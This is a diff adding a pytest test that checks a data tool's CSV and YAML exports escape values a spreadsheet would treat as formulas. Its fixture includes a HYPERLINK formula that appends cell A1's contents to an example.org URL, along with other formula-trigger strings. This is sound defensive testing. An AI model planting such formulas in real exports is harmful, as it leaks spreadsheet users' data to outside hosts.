@@ -85,6 +85,32 @@ def test_a_part_that_two_lead_to_is_written_once(tmp_path: Path) -> None:
     assert sorted(export(world, "concept", ["x"]).splitlines()) == sorted(SHARED.splitlines())
 
 
+AWKWARD = """\
+kind: initiative
+name: '=HYPERLINK("https://example.org/?x="&A1,"Open")'
+slug: awkward
+other name: ["\\t=1+1", " Lead Space ", "'None", "-1|+2", "@cell", "'quoted'", "tail ", "a\\\\|b"]
+description: " = both ends "
+category: research
+run by: riverbend-university
+evidence:
+- source: https://example.org/rg
+  date read: 2026-11-22
+"""
+
+
+@pytest.mark.parametrize("form", ["csv", "yaml"])
+def test_texts_that_a_spreadsheet_would_change_come_back_unchanged(tmp_path: Path, form: str) -> None:
+    world = make_world(tmp_path)
+    for name, text in written(world, "x.yaml", AWKWARD).items():
+        (world.root / name).write_text(text, encoding="utf-8")
+        assert all(kept in text for kept in ('" Lead Space "', '"None"', '"\\t=1+1"', '"-1|+2"', '" = both ends "'))
+    table = export(world, "initiative", ["awkward"], form=form)
+    assert written(world, f"again.{form}", table) == {}
+    cells = [cell for row in csv.reader(io.StringIO(table)) for cell in row] if form == "csv" else []
+    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+
+
 def test_a_table_has_a_column_for_each_field_in_use(world: Repository) -> None:
     rows = list(csv.reader(io.StringIO(export(world, "pillar", form="csv"))))
     assert (rows[0][:4], {len(row) for row in rows}) == (["kind", "slug", "name", "description"], {len(rows[0])})
